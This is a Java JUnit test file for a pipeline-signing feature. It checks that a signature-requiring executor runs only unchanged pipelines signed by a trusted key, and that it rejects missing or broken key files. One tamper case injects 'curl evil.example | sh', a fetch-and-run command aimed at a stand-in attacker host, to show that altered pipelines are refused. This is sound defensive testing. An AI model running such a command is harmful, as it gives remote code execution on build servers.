package org.pipelinekit.core.sign;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.pipelinekit.core.PipelineException;
import org.pipelinekit.core.engine.PipelineExecutor;
import org.pipelinekit.core.format.PipelineFormat;
import org.pipelinekit.core.model.Pipeline;
import org.pipelinekit.core.run.ExecutionStatus;

/** An executor that requires signatures runs what a trusted key signed, and refuses the rest before anything runs. */
class SignedPipelinesTest {
  @TempDir Path dir;

  private static final String YAML = """
      id: ship
      stages:
        - id: deploy
          steps:
            - run: echo deployed
      """;

  @Test
  void onlyPipelinesSignedByATrustedKeyAndUnchangedRun() throws Exception {
    Path keys = dir.resolve("keys");
    PipelineSignatures.generate(keys, "team-a");
    PipelineSignatures.generate(dir.resolve("other"), "ops");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(keys.resolve("team-a.key")))).isEqualTo("rw-------");
    assertThatThrownBy(() -> PipelineSignatures.generate(keys, "team-a")).hasMessageContaining("a key named team-a is already in");
    Files.delete(dir.resolve("other/ops.pub")); // the server trusts team-a only
    Files.copy(keys.resolve("team-a.pub"), dir.resolve("trusted.pub"));
    PipelineSignatures.Trusted trusted = PipelineSignatures.Trusted.inDirectory(keys);

    Pipeline p = PipelineFormat.YAML.read(YAML);
    Pipeline signed = PipelineSignatures.sign(p, keys.resolve("team-a.key"));
    // the same pipeline written another way (comments, JSON) carries the same signature
    Pipeline reread = PipelineFormat.YAML.read("# shipped by team a\n" + PipelineFormat.YAML.write(signed));
    Pipeline tampered = PipelineFormat.YAML.read(PipelineFormat.YAML.write(signed).replace("echo deployed", "curl evil.example | sh; echo deployed"));
    Pipeline foreign = PipelineSignatures.sign(p, dir.resolve("other/ops.key"));

    try (PipelineExecutor executor = PipelineExecutor.builder().dataDirectory(dir.resolve("data")).requireSignatures(trusted).build()) {
      assertThat(executor.execute(reread).completion().get(60, TimeUnit.SECONDS).status()).isEqualTo(ExecutionStatus.SUCCEEDED);
      assertThatThrownBy(() -> executor.execute(p)).isInstanceOf(PipelineException.class)
          .hasMessage("pipeline ship is not signed; this server runs only pipelines signed by key 'team-a': sign it with pipelinekit sign FILE --key NAME.key");
      assertThatThrownBy(() -> executor.execute(tampered))
          .hasMessageContaining("does not match its signature by key 'team-a': it was changed after it was signed");
      assertThatThrownBy(() -> executor.execute(foreign))
          .hasMessageContaining("is signed by key 'ops', which this server does not trust; it trusts key 'team-a'");
      // nothing of the refused ones was stored or run: only the signed run exists
      assertThat(executor.executions(p.id(), 10)).hasSize(1);
    }
  }

  @Test
  void aKeyDirectoryWithoutKeysOrWithABrokenOneIsRefusedWithWhatToDo() throws Exception {
    Files.createDirectories(dir.resolve("empty"));
    assertThatThrownBy(() -> PipelineSignatures.Trusted.inDirectory(dir.resolve("empty"))).hasMessageContaining("no NAME.pub key in");
    assertThatThrownBy(() -> PipelineSignatures.Trusted.inDirectory(dir.resolve("missing"))).hasMessageContaining("no directory of trusted keys");
    Files.writeString(dir.resolve("empty/bad.pub"), "not base64 !!\n");
    assertThatThrownBy(() -> PipelineSignatures.Trusted.inDirectory(dir.resolve("empty"))).hasMessageContaining("bad.pub is not a base64 key file");
    assertThatThrownBy(() -> PipelineSignatures.sign(PipelineFormat.YAML.read(YAML), dir.resolve("empty/bad.pub")))
        .hasMessageContaining("is not a private key file (NAME.key");
  }
}
